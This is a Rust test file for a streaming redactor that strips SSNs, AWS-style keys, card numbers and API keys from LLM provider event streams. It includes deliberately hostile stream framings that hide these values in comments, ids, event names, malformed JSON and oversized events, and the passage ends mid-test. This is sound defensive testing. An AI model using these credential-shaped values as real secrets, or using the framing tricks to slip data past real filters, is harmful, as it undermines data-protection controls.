//! Tests of [`super::SseRewriter`]: text channels, held-back text, blocks, and the hostile
//! streams of `leaks` (framing, every text-bearing field of every provider).
use rampart_core::DataClass;
use rampart_detect::{HashKey, Strategy};

use super::*;

/// Redacts every class with `mask`, except `keep`; blocks what `blocks` says.
fn rules(keep: &[DataClass], blocks: fn(&Finding) -> bool) -> StreamRules {
    let keep = keep.to_vec();
    StreamRules::new(
        move || {
            keep.iter().fold(
                Redactor::new(Strategy::Mask, HashKey::new([7; 32])),
                |r, &c| r.keep(c),
            )
        },
        blocks,
    )
}

fn redact_all() -> StreamRules {
    rules(&[], |_| false)
}

/// Nothing enforced: values are kept.
fn monitor() -> StreamRules {
    rules(&DataClass::ALL, |_| false)
}

fn rewriter(p: Box<dyn Provider>) -> SseRewriter {
    with_rules(p, redact_all())
}

fn with_rules(p: Box<dyn Provider>, rules: StreamRules) -> SseRewriter {
    SseRewriter::new(Arc::from(p), Scanner::builtin(), rules)
}

/// The whole stream `input` through `r`, as text.
fn rewrite(r: &mut SseRewriter, input: &[u8]) -> String {
    let mut out = Vec::new();
    r.push(input, &mut out);
    r.finish(&mut out);
    String::from_utf8(out).unwrap()
}

/// The strings at `pointer` of every JSON event in `out`, joined.
fn joined(out: &str, pointer: &str) -> String {
    out.lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .filter_map(|v| {
            v.pointer(pointer)
                .and_then(Value::as_str)
                .map(str::to_owned)
        })
        .collect()
}

fn openai_events(pieces: &[&str]) -> Vec<u8> {
    let mut s = String::new();
    for p in pieces {
        let v = serde_json::json!({"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":p},"finish_reason":null}]});
        s.push_str(&format!("data: {v}\n\n"));
    }
    s.push_str("data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
    s.into_bytes()
}

/// OpenAI stream events carrying tool call 0's arguments in `pieces`, without the end.
fn tool_call_events(pieces: &[&str]) -> String {
    let mut s = String::new();
    for args in pieces {
        let v = serde_json::json!({"id":"c1","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":args}}]},"finish_reason":null}]});
        s.push_str(&format!("data: {v}\n\n"));
    }
    s
}

fn texts(out: impl AsRef<[u8]>) -> String {
    let s = String::from_utf8_lossy(out.as_ref());
    let mut text = String::new();
    for line in s.lines() {
        if let Some(d) = line.strip_prefix("data: ")
            && let Ok(v) = serde_json::from_str::<Value>(d)
            && let Some(t) = v
                .pointer("/choices/0/delta/content")
                .and_then(Value::as_str)
        {
            text.push_str(t);
        }
    }
    text
}

#[test]
fn a_value_split_across_events_and_chunks_is_redacted() {
    let input = openai_events(&["My SSN is 53", "6-90-43", "99 and that is all."]);
    // every split of the byte stream into two chunks
    for cut in 0..input.len() {
        let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
        let mut out = Vec::new();
        r.push(&input[..cut], &mut out);
        r.push(&input[cut..], &mut out);
        r.finish(&mut out);
        let text = texts(&out);
        assert!(!text.contains("536-90-4399"), "cut {cut}: {text}");
        assert!(text.contains("[REDACTED:US_SSN]"), "cut {cut}: {text}");
        assert!(text.starts_with("My SSN is ") && text.ends_with("and that is all."));
        assert!(String::from_utf8_lossy(&out).ends_with("data: [DONE]\n\n"));
        assert_eq!(r.findings().len(), 1);
    }
}

#[test]
fn monitor_mode_passes_text_unchanged_and_records() {
    let input = openai_events(&[
        "key sk-proj-ZSJRpcG5_vpid7ZWNMWVXkWc6DTbIUgS5R53K1A3L4dsg27CqW",
        "yYXBmZNDT3BlbkFJ77x0ryK3bxSl0GlNSHm45ezz7PAtmbWrdjmFGQ7pk7CBjb0SYlY0d6mja8 ok",
    ]);
    let mut r = with_rules(Box::new(rampart_llm::openai::OpenAi), monitor());
    let out = rewrite(&mut r, &input);
    assert_eq!(
        texts(&out),
        "key 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 ok"
    );
    assert!(!r.findings().is_empty());
}

#[test]
fn classes_the_policy_allows_pass_through_a_stream() {
    let input = openai_events(&["mail ada@example.org or ", "call; ssn 536-90-4399 done."]);
    let mut r = with_rules(
        Box::new(rampart_llm::openai::OpenAi),
        rules(&[DataClass::EmailAddress], |_| false),
    );
    let out = rewrite(&mut r, &input);
    assert_eq!(
        texts(&out),
        "mail ada@example.org or call; ssn [REDACTED:US_SSN] done."
    );
}

#[test]
fn a_key_split_across_tool_call_argument_events_is_redacted() {
    let mut s = tool_call_events(&["{\"key\": \"AKIA4HBW", "6E62M7NGFVGF\", ", "\"n\": 1}"]);
    s.push_str("data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\ndata: [DONE]\n\n");
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    let args = joined(&out, "/choices/0/delta/tool_calls/0/function/arguments");
    assert!(!out.contains("AKIA4HBW"), "{out}");
    assert_eq!(args, "{\"key\": \"[REDACTED:SECRET]\", \"n\": 1}");
}

#[test]
fn a_key_whole_in_one_tool_call_event_is_redacted() {
    let mut s = tool_call_events(&[
        "{\"note\": \"call me\"}",
        "{\"key\": \"AKIA4HBW6E62M7NGFVGF\"}",
    ]);
    s.push_str("data: [DONE]\n\n");
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    assert!(!out.contains("AKIA4HBW6E62M7NGFVGF"), "{out}");
    assert!(out.contains("[REDACTED:SECRET]"), "{out}");
}

#[test]
fn anthropic_text_is_released_before_the_block_ends() {
    let mut s = String::new();
    s.push_str("event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m1\",\"usage\":{\"input_tokens\":9,\"output_tokens\":1}}}\n\n");
    for t in ["Call 415-", "555-0132 ", "or mail ada@", "example.org now"] {
        let v = serde_json::json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":t}});
        s.push_str(&format!("event: content_block_delta\ndata: {v}\n\n"));
    }
    s.push_str(
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
    );
    s.push_str("event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n");
    let mut r = rewriter(Box::new(rampart_llm::anthropic::Anthropic));
    let out = rewrite(&mut r, s.as_bytes());
    assert!(!out.contains("ada@example.org"), "{out}");
    let stop = out.find("content_block_stop").unwrap();
    let last_text = out.rfind("text_delta").unwrap();
    assert!(
        last_text < stop,
        "held-back text comes before the block ends: {out}"
    );
    assert_eq!(r.usage().map(|u| u.input), Some(9));
}
#[test]
fn characters_split_by_the_hold_back_arrive_whole() {
    let pieces = [
        "東京の天気は晴れです。",
        "明日も晴れるでしょう 🌞 ",
        "café crème, naïve résumé — ",
        "Ünïcödé ends here.",
    ];
    let input = openai_events(&pieces);
    for cut in (0..input.len()).step_by(7) {
        let (_, out) = in_two(&input, cut);
        assert_eq!(texts(&out), pieces.concat(), "cut {cut}");
    }
}

/// An OpenAI stream through a redact-all rewriter, its bytes pushed in two chunks cut at `cut`.
fn in_two(input: &[u8], cut: usize) -> (SseRewriter, Vec<u8>) {
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let mut out = Vec::new();
    r.push(&input[..cut], &mut out);
    r.push(&input[cut..], &mut out);
    r.finish(&mut out);
    (r, out)
}

#[test]
fn clean_events_keep_their_bytes_apart_from_the_text() {
    // key order and spacing as the provider wrote them
    let mut s = String::new();
    for t in ["Hello ", "there, ", "how are ", "you today?"] {
        s.push_str(&format!(
            "data: {{\"model\":\"m\", \"choices\":[{{\"delta\":{{\"content\":{}}},\"index\":0,\"finish_reason\":null}}],\"id\":\"c9\"}}\n\n",
            serde_json::to_string(t).unwrap()
        ));
    }
    s.push_str("data: [DONE]\n\n");
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    assert_eq!(texts(out.as_bytes()), "Hello there, how are you today?");
    for line in out.lines().filter(|l| l.starts_with("data: {")) {
        assert!(
            line.starts_with("data: {\"model\":\"m\", \"choices\":[{\"delta\":{\"content\":"),
            "{line}"
        );
        assert!(
            line.ends_with("},\"index\":0,\"finish_reason\":null}],\"id\":\"c9\"}"),
            "{line}"
        );
    }
}

#[test]
fn escaped_events_take_the_general_path_and_are_still_redacted() {
    // `\u` escapes and `\/` have other forms than serde_json writes; such events are parsed
    // and written again
    let mut s = String::new();
    for t in [
        r"Caf\u00e9 SSN 53",
        r"6-90-43",
        r"99 see http:\/\/example.org",
    ] {
        s.push_str(&format!(
            "data: {{\"id\":\"c1\",\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{t}\"}},\"finish_reason\":null}}]}}\n\n"
        ));
    }
    s.push_str("data: [DONE]\n\n");
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    assert_eq!(
        texts(&out),
        "Café SSN [REDACTED:US_SSN] see http://example.org"
    );
}

#[test]
fn a_text_that_also_matches_across_a_key_boundary_is_not_misplaced() {
    // `":"` occurs twice, overlapping, in `{"k":":"}`; the event must not be spliced at
    // the first occurrence
    let s = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\":\"},\"finish_reason\":null}]}\n\n\
             data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"536-90-4399\"},\"finish_reason\":null}]}\n\ndata: [DONE]\n\n";
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    assert_eq!(texts(&out), ":[REDACTED:US_SSN]");
    for line in out.lines() {
        if let Some(d) = line.strip_prefix("data: ")
            && d != "[DONE]"
        {
            serde_json::from_str::<Value>(d).expect("valid JSON");
        }
    }
}
fn aws_block_rules() -> StreamRules {
    rules(&[], |f| f.detector.starts_with("aws_"))
}

#[test]
fn a_block_rule_ends_the_stream_with_the_providers_error_event() {
    let input = openai_events(&[
        "Here you go: AKIA4HBW",
        "6E62M7NGFVGF is the key, ",
        "and more text follows.",
    ]);
    for cut in 0..input.len() {
        let mut r = with_rules(Box::new(rampart_llm::openai::OpenAi), aws_block_rules());
        let mut out = Vec::new();
        r.push(&input[..cut], &mut out);
        r.push(&input[cut..], &mut out);
        r.finish(&mut out);
        let out = String::from_utf8(out).unwrap();
        assert!(r.blocked(), "cut {cut}");
        assert!(
            !out.contains("AKIA4HBW") && !out.contains("6E62M7NGFVGF"),
            "cut {cut}: {out}"
        );
        assert!(
            !out.contains("more text follows") && !out.contains("[DONE]"),
            "cut {cut}: {out}"
        );
        let last = out.trim_end().lines().last().unwrap();
        let v: Value = serde_json::from_str(last.strip_prefix("data: ").unwrap()).unwrap();
        assert_eq!(v["error"]["code"], "rampart_blocked", "cut {cut}: {out}");
        assert!(
            texts(out.as_bytes()).starts_with("Here you go"),
            "cut {cut}: {out}"
        );
    }
}

#[test]
fn anthropic_streams_end_with_an_error_event() {
    let mut s = String::new();
    for t in ["key AKIA4HBW6E62M7NGFVGF ", "more"] {
        let v = serde_json::json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":t}});
        s.push_str(&format!("event: content_block_delta\ndata: {v}\n\n"));
    }
    let mut r = with_rules(
        Box::new(rampart_llm::anthropic::Anthropic),
        aws_block_rules(),
    );
    let out = rewrite(&mut r, s.as_bytes());
    let last = out.trim_end().rsplit("\n\n").next().unwrap();
    assert!(last.starts_with("event: error\ndata: {"), "{out}");
    assert!(
        out.contains("rampart_blocked") && !out.contains("AKIA"),
        "{out}"
    );
}

#[test]
fn monitor_mode_never_ends_a_stream() {
    let input = openai_events(&["key AKIA4HBW6E62M7NGFVGF ", "more"]);
    // nothing enforced: neither redaction nor blocks
    let mut r = with_rules(
        Box::new(rampart_llm::openai::OpenAi),
        rules(&DataClass::ALL, |_| false),
    );
    let out = rewrite(&mut r, &input);
    assert!(!r.blocked());
    assert_eq!(texts(&out), "key AKIA4HBW6E62M7NGFVGF more");
}
#[test]
fn a_key_split_across_cohere_tool_call_events_is_redacted() {
    let mut s = String::new();
    for args in ["{\"key\": \"AKIA4HBW", "6E62M7NGFVGF\"}"] {
        let v = serde_json::json!({"type":"tool-call-delta","index":0,"delta":{"message":{"tool_calls":{"function":{"arguments":args}}}}});
        s.push_str(&format!("event: tool-call-delta\ndata: {v}\n\n"));
    }
    s.push_str("event: tool-call-end\ndata: {\"type\":\"tool-call-end\",\"index\":0}\n\n");
    let mut r = rewriter(Box::new(rampart_llm::cohere::Cohere));
    let out = rewrite(&mut r, s.as_bytes());
    assert!(
        !out.contains("AKIA4HBW") && !out.contains("6E62M7NGFVGF"),
        "{out}"
    );
    let args = joined(&out, "/delta/message/tool_calls/function/arguments");
    assert_eq!(args, "{\"key\": \"[REDACTED:SECRET]\"}");
    // held-back arguments come before the event that ends the call
    assert!(out.rfind("tool-call-delta").unwrap() < out.find("tool-call-end").unwrap());
}

#[test]
fn gemini_thoughts_and_answer_text_are_scanned_as_streams() {
    let mut s = String::new();
    for (thought, text) in [
        ("the number is 53", "Call 415-"),
        ("6-90-4399 ok", "555-0132 now"),
    ] {
        let v = serde_json::json!({"candidates":[{"content":{"parts":[{"text":thought,"thought":true},{"text":text}],"role":"model"}}]});
        s.push_str(&format!("data: {v}\n\n"));
    }
    s.push_str("data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"\"}]},\"finishReason\":\"STOP\"}]}\n\n");
    let mut r = rewriter(Box::new(rampart_llm::gemini::Gemini));
    let out = rewrite(&mut r, s.as_bytes());
    assert!(!out.contains("6-90-4399") && !out.contains("0132"), "{out}");
    assert_eq!(r.findings().len(), 2, "{out}");
}

/// Hostile streams: each must reach the client without any of [`SECRETS`], at every chunking.
mod leaks {
    use rampart_llm::anthropic::Anthropic;
    use rampart_llm::cohere::Cohere;
    use rampart_llm::gemini::Gemini;
    use rampart_llm::openai::OpenAi;

    use super::*;

    /// The values no output may carry, not even spread over several strings.
    const SECRETS: [&str; 3] = ["536-90-4399", "AKIA4HBW6E62M7NGFVGF", "4111111111111111"];

    /// Chunk sizes the input is fed in (the whole stream, byte by byte, and a few odd sizes).
    const CHUNKS: [usize; 6] = [usize::MAX, 1, 2, 3, 7, 61];

    /// `events` framed as SSE with line end `nl`: each `(name, data)` one event.
    fn framed(events: &[(Option<&str>, String)], nl: &str) -> Vec<u8> {
        let mut s = String::new();
        for (name, data) in events {
            if let Some(n) = name {
                s.push_str(&format!("event: {n}{nl}"));
            }
            s.push_str(&format!("data: {data}{nl}{nl}"));
        }
        s.into_bytes()
    }

    /// The output of `input` fed in chunks of `chunk` bytes.
    fn feed(r: &mut SseRewriter, input: &[u8], chunk: usize) -> String {
        let mut out = Vec::new();
        for piece in input.chunks(chunk.min(input.len()).max(1)) {
            r.push(piece, &mut out);
        }
        r.finish(&mut out);
        String::from_utf8(out).expect("output is UTF-8")
    }

    /// Every string of a JSON value, depth first, with its path.
    fn strings(v: &Value, at: String, into: &mut Vec<(String, String)>) {
        match v {
            Value::String(s) => into.push((at, s.clone())),
            Value::Array(a) => {
                // elements that name their index (choices, tool calls, candidates) by it
                for (i, x) in a.iter().enumerate() {
                    let key = match x.get("index").and_then(Value::as_u64) {
                        Some(n) => format!("#{n}"),
                        None => i.to_string(),
                    };
                    strings(x, format!("{at}/{key}"), into);
                }
            }
            Value::Object(m) => {
                for (k, x) in m {
                    strings(x, format!("{at}/{k}"), into);
                }
            }
            _ => {}
        }
    }

    /// Asserts `out` is framed with `\n` only, with known fields, and holds no secret: not
    /// in its bytes, not in all its texts joined, not in the texts of one JSON path joined.
    fn assert_clean(case: &str, out: &str) {
        let mut all = String::new();
        let mut by_path: Vec<(String, String)> = Vec::new();
        let mut data: Vec<&str> = Vec::new();
        assert!(!out.contains('\r'), "{case}: a CR in the output: {out:?}");
        for line in out.split_inclusive('\n') {
            let line = line.strip_suffix('\n').expect("every line ends in LF");
            if line.is_empty() {
                let joined = data.join("\n");
                data.clear();
                match serde_json::from_str::<Value>(&joined) {
                    Ok(v) => {
                        let mut found = Vec::new();
                        strings(&v, String::new(), &mut found);
                        for (path, text) in found {
                            all.push_str(&text);
                            match by_path.iter_mut().find(|(p, _)| *p == path) {
                                Some((_, t)) => t.push_str(&text),
                                None => by_path.push((path, text)),
                            }
                        }
                    }
                    Err(_) => all.push_str(&joined),
                }
                continue;
            }
            let (field, value) = line.split_once(": ").unwrap_or((line, ""));
            match field {
                "data" => data.push(value),
                "event" | "id" | "retry" => all.push_str(value),
                _ => panic!("{case}: unexpected line {line:?} in {out}"),
            }
        }
        assert!(data.is_empty(), "{case}: an unterminated event in {out}");
        for secret in SECRETS {
            assert!(!out.contains(secret), "{case}: {secret} in {out}");
            assert!(!all.contains(secret), "{case}: {secret} in joined {all}");
            for (path, text) in &by_path {
                assert!(!text.contains(secret), "{case}: {secret} at {path}: {text}");
            }
        }
    }

    /// Feeds `input` through a redact-all rewriter of `provider` at every chunking and checks
    /// the output, which must not depend on the chunking; returns it.
    fn check(case: &str, provider: MakeProvider, input: &[u8]) -> String {
        let mut first = None;
        for chunk in CHUNKS {
            let mut r = rewriter(provider());
            let out = feed(&mut r, input, chunk);
            assert_clean(&format!("{case} (chunks of {chunk})"), &out);
            let first = first.get_or_insert_with(|| out.clone());
            assert_eq!(*first, out, "{case}: chunks of {chunk} change the output");
        }
        first.unwrap_or_default()
    }

    /// Makes the provider a case is for.
    type MakeProvider = fn() -> Box<dyn Provider>;

    fn openai() -> Box<dyn Provider> {
        Box::new(OpenAi)
    }
    fn anthropic() -> Box<dyn Provider> {
        Box::new(Anthropic)
    }
    fn gemini() -> Box<dyn Provider> {
        Box::new(Gemini)
    }
    fn cohere() -> Box<dyn Provider> {
        Box::new(Cohere)
    }

    /// OpenAI chat chunks, one per text piece, then the end.
    fn chat(pieces: &[&str]) -> Vec<(Option<&'static str>, String)> {
        let mut events: Vec<(Option<&str>, String)> = pieces
            .iter()
            .map(|p| {
                let v = serde_json::json!({"id":"c1","choices":[{"index":0,"delta":{"content":p},"finish_reason":null}]});
                (None, v.to_string())
            })
            .collect();
        events.push((None, "[DONE]".to_owned()));
        events
    }

    const SPLIT_SSN: [&str; 3] = ["My SSN is 53", "6-90-43", "99 and that is all."];

    #[test]
    fn every_line_end_the_spec_allows_splits_events() {
        for nl in ["\n", "\r\n", "\r"] {
            let input = framed(&chat(&SPLIT_SSN), nl);
            let out = check(&format!("line end {nl:?}"), openai, &input);
            assert!(out.contains("[REDACTED:US_SSN]"), "{nl:?}: {out}");
            assert!(out.ends_with("data: [DONE]\n\n"), "{nl:?}: {out}");
        }
    }

    #[test]
    fn hostile_framing_never_passes_a_value_unscanned() {
        let ssn_event = |t: &str| {
            serde_json::json!({"choices":[{"index":0,"delta":{"content":t},"finish_reason":null}]})
                .to_string()
        };
        let cases: Vec<(&str, String)> = vec![
            (
                "a byte order mark first",
                format!("\u{feff}data: {}\n\n", ssn_event("My SSN is 536-90-4399")),
            ),
            (
                "mixed line ends",
                format!(
                    "data: {}\r\rdata: {}\n\r\ndata: {}\r\n\n",
                    ssn_event(SPLIT_SSN[0]),
                    ssn_event(SPLIT_SSN[1]),
                    ssn_event(SPLIT_SSN[2])
                ),
            ),
            (
                "a comment",
                ": AKIA4HBW6E62M7NGFVGF\ndata: {}\n\n".replace("{}", &ssn_event("hi")),
            ),
            (
                "an id",
                format!(
                    "id: SSN 536-90-4399\ndata: {}\n\nid:AKIA4HBW6E62M7NGFVGF\n\n",
                    ssn_event("hi")
                ),
            ),
            (
                "an event name",
                format!(
                    "event: AKIA4HBW6E62M7NGFVGF\ndata: {}\n\n",
                    ssn_event("hi")
                ),
            ),
            (
                "unknown fields and a field without a colon",
                format!(
                    "x-note: SSN 536-90-4399\nAKIA4HBW6E62M7NGFVGF\ndata: {}\n\n",
                    ssn_event("hi")
                ),
            ),
            (
                "data without the space",
                format!("data:{}\n\n", ssn_event("My SSN is 536-90-4399")),
            ),
            (
                "a non-JSON data line",
                "data: card 4111111111111111 SSN 536-90-4399\n\n".to_owned(),
            ),
            (
                "JSON that does not parse",
                "data: {\"choices\":[{\"delta\":{\"content\":\"key AKIA4HBW6E62M7NGFVGF\"\n\n"
                    .to_owned(),
            ),
            (
                "JSON over several data lines",
                "data: {\"choices\":[{\"index\":0,\"delta\":\ndata: {\"content\":\"key AKIA4HBW6E62M7NGFVGF\"}}]}\n\n"
                    .to_owned(),
            ),
            (
                "an unterminated last event",
                format!("data: {}", ssn_event("My SSN is 536-90-4399")),
            ),
            (
                "an unterminated last event ending in CR",
                format!("data: {}\r", ssn_event("My SSN is 536-90-4399")),
            ),
            (
                "an unterminated non-JSON last line",
                "data: key AKIA4HBW6E62M7NGFVGF".to_owned(),
            ),
        ];
        for (case, input) in cases {
            check(case, openai, input.as_bytes());
        }
    }

    #[test]
    fn an_event_over_the_limit_ends_the_stream_closed() {
        let big = format!(
            "data: {}\n\n",
            serde_json::json!({"choices":[{"index":0,"delta":{"content":format!("{} key AKIA4HBW6E62M7NGFVGF", "x".repeat(300))}}]})
        );
        let cases = [
            (
                "a whole event",
                format!("data: [START]\n\n{big}data: [DONE]\n\n"),
            ),
            (
                "an event that never ends",
                format!("data: [START]\n\n{}", big.trim_end()),
            ),
            (
                "a line that never ends",
                format!("data: [START]\n\ndata: {}", "y".repeat(400)),
            ),
        ];
        for (case, input) in cases {
            for chunk in CHUNKS {
                let mut r = rewriter(openai()).with_max_event(256);
                let out = feed(&mut r, input.as_bytes(), chunk);
                assert!(r.blocked(), "{case} ({chunk}): {out}");
                assert!(
                    out.starts_with("data: [START]\n\n"),
                    "{case} ({chunk}): {out}"
                );
                assert!(
                    !out.contains("xxxx") && !out.contains("yyyy"),
                    "{case}: {out}"
                );
                assert!(!out.contains("[DONE]"), "{case}: {out}");
                let last = out.trim_end().lines().last().unwrap_or_default();
                let v: Value = serde_json::from_str(last.strip_prefix("data: ").unwrap()).unwrap();
                assert_eq!(v["error"]["code"], "rampart_blocked", "{case}: {out}");
                assert_clean(case, &out);
            }
        }
    }

    #[test]
    fn data_the_scanner_cannot_read_ends_the_stream_closed() {
        // a gzip magic makes the scanner try to decompress; a corrupt stream cannot be read
        let input = b"data: [START]\n\n".to_vec();
        for line in [
            &b"data: \x1f\x8b\x08 key AKIA4HBW6E62M7NGFVGF"[..],
            b"event: \x1f\x8b\x08AKIA4HBW6E62M7NGFVGF\ndata: {}",
        ] {
            for chunk in CHUNKS {
                let mut bytes = input.clone();
                bytes.extend_from_slice(line);
                bytes.extend_from_slice(b"\n\ndata: [DONE]\n\n");
                let mut r = rewriter(openai());
                let out = feed(&mut r, &bytes, chunk);
                assert!(r.blocked(), "{chunk}: {out}");
                assert!(
                    out.starts_with("data: [START]\n\n") && !out.contains("[DONE]"),
                    "{out}"
                );
                assert!(out.contains("rampart_blocked"), "{out}");
                assert_clean("unreadable data", &out);
            }
        }
    }

    /// `(case, provider, events)`: every text-bearing field of every provider, each with a
    /// value split across its events (and seeds, `.done` repeats, other indexes).
    fn channel_cases() -> Vec<(&'static str, MakeProvider, Vec<u8>)> {
        use serde_json::json;
        let j = |v: Value| (None, v.to_string());
        let named = |n: &'static str, v: Value| (Some(n), v.to_string());
        let chunk =
            |choices: Value| json!({"id":"c1","object":"chat.completion.chunk","choices":choices});
        vec![
            (
                "openai: two choices interleaved, each its own channel",
                openai,
                framed(
                    &[
                        j(chunk(
                            json!([{"index":0,"delta":{"content":"My SSN is 536-"}},{"index":1,"delta":{"content":"key AKIA4HBW"}}]),
                        )),
                        j(chunk(
                            json!([{"index":1,"delta":{"content":"6E62M7NGFVGF ok"}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{"content":"90-4399 done"}},{"index":1,"delta":{"content":" card 41111111"}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{},"finish_reason":"stop"}]),
                        )),
                        j(chunk(
                            json!([{"index":1,"delta":{"content":"11111111 end"}}]),
                        )),
                        j(chunk(
                            json!([{"index":1,"delta":{},"finish_reason":"stop"}]),
                        )),
                        (None, "[DONE]".to_owned()),
                    ],
                    "\n",
                ),
            ),
            (
                "openai: refusal and legacy function call arguments",
                openai,
                framed(
                    &[
                        j(chunk(
                            json!([{"index":0,"delta":{"refusal":"I won't repeat SSN 536-90"}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{"refusal":"-4399 sorry"}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{"function_call":{"name":"f","arguments":"{\"k\":\"AKIA4HBW6E"}}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{"function_call":{"arguments":"62M7NGFVGF\"}"}}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{},"finish_reason":"function_call"}]),
                        )),
                    ],
                    "\n",
                ),
            ),
            (
                "openai: tool calls of a second choice",
                openai,
                framed(
                    &[
                        j(chunk(
                            json!([{"index":1,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"card\":\"41111111"}}]}}]),
                        )),
                        j(chunk(
                            json!([{"index":1,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"11111111\"}"}}]}}]),
                        )),
                        (None, "[DONE]".to_owned()),
                    ],
                    "\n",
                ),
            ),
            (
                "openai: log probabilities repeat the text token by token",
                openai,
                framed(
                    &[
                        j(chunk(
                            json!([{"index":0,"delta":{"content":"SSN 536-90"},"logprobs":{"content":[{"token":"SSN 536-90","logprob":-0.1,"bytes":[53,51,54],"top_logprobs":[{"token":"SSN 536-90","logprob":-0.1}]}]}}]),
                        )),
                        j(chunk(
                            json!([{"index":0,"delta":{"content":"-4399 ok"},"logprobs":{"content":[{"token":"-4399 ok","logprob":-0.1,"bytes":[45],"top_logprobs":[]}]}}]),
                        )),
                        named(
                            "response.output_text.delta",
                            json!({"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"key AKIA4HBW","logprobs":[{"token":"key AKIA4HBW","logprob":-0.1}]}),
                        ),
                        named(
                            "response.output_text.delta",
                            json!({"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"6E62M7NGFVGF","logprobs":[{"token":"6E62M7NGFVGF","logprob":-0.1}]}),
                        ),
                        (None, "[DONE]".to_owned()),
                    ],
                    "\n",
                ),
            ),
            (
                "openai: completions text per choice",
                openai,
                framed(
                    &[
                        j(
                            json!({"object":"text_completion","choices":[{"index":0,"text":"SSN 536-90"},{"index":1,"text":"key AKIA4HBW6E"}]}),
                        ),
                        j(
                            json!({"object":"text_completion","choices":[{"index":1,"text":"62M7NGFVGF"},{"index":0,"text":"-4399 ok"}]}),
                        ),
                        (None, "[DONE]".to_owned()),
                    ],
                    "\n",
                ),
            ),
            (
                "openai responses: deltas of every kind and the .done repeats",
                openai,
                framed(
                    &[
                        named(
                            "response.output_text.delta",
                            json!({"type":"response.output_text.delta","item_id":"m1","output_index":0,"content_index":0,"delta":"My SSN is 536-9"}),
                        ),
                        named(
                            "response.reasoning_summary_text.delta",
                            json!({"type":"response.reasoning_summary_text.delta","item_id":"r1","output_index":1,"summary_index":0,"delta":"card 411111111"}),
                        ),
                        named(
                            "response.output_text.delta",
                            json!({"type":"response.output_text.delta","item_id":"m1","output_index":0,"content_index":0,"delta":"0-4399 ok"}),
                        ),
                        named(
                            "response.reasoning_summary_text.delta",
                            json!({"type":"response.reasoning_summary_text.delta","item_id":"r1","output_index":1,"summary_index":0,"delta":"1111111 ok"}),
                        ),
                        named(
                            "response.output_text.done",
                            json!({"type":"response.output_text.done","item_id":"m1","output_index":0,"content_index":0,"text":"My SSN is 536-90-4399 ok"}),
                        ),
                        named(
                            "response.refusal.delta",
                            json!({"type":"response.refusal.delta","item_id":"m2","output_index":2,"content_index":0,"delta":"no: AKIA4HBW6"}),
                        ),
                        named(
                            "response.refusal.delta",
                            json!({"type":"response.refusal.delta","item_id":"m2","output_index":2,"content_index":0,"delta":"E62M7NGFVGF"}),
                        ),
                        named(
                            "response.refusal.done",
                            json!({"type":"response.refusal.done","item_id":"m2","output_index":2,"content_index":0,"refusal":"no: AKIA4HBW6E62M7NGFVGF"}),
                        ),
                        named(
                            "response.function_call_arguments.delta",
                            json!({"type":"response.function_call_arguments.delta","item_id":"f1","output_index":3,"delta":"{\"ssn\":\"SSN 536-90"}),
                        ),
                        named(
                            "response.function_call_arguments.delta",
                            json!({"type":"response.function_call_arguments.delta","item_id":"f1","output_index":3,"delta":"-4399\"}"}),
                        ),
                        named(
                            "response.function_call_arguments.done",
                            json!({"type":"response.function_call_arguments.done","item_id":"f1","output_index":3,"arguments":"{\"ssn\":\"SSN 536-90-4399\"}"}),
                        ),
                        named(
                            "response.reasoning_text.delta",
                            json!({"type":"response.reasoning_text.delta","item_id":"r2","output_index":4,"content_index":0,"delta":"key AKIA4H"}),
                        ),
                        named(
                            "response.reasoning_text.delta",
                            json!({"type":"response.reasoning_text.delta","item_id":"r2","output_index":4,"content_index":0,"delta":"BW6E62M7NGFVGF"}),
                        ),
                        named(
                            "response.custom_tool_call_input.delta",
                            json!({"type":"response.custom_tool_call_input.delta","item_id":"t1","output_index":5,"delta":"card 4111"}),
                        ),
                        named(
                            "response.custom_tool_call_input.delta",
                            json!({"type":"response.custom_tool_call_input.delta","item_id":"t1","output_index":5,"delta":"111111111111"}),
                        ),
                        named(
                            "response.completed",
                            json!({"type":"response.completed","response":{"id":"r","output":[{"type":"message","content":[{"type":"output_text","text":"My SSN is 536-90-4399 ok"}]}]}}),
                        ),
                    ],
                    "\n",
                ),
            ),
            (
                "anthropic: seeds, thinking, tool input and a second block",
                anthropic,
                framed(
                    &[
                        named(
                            "content_block_start",
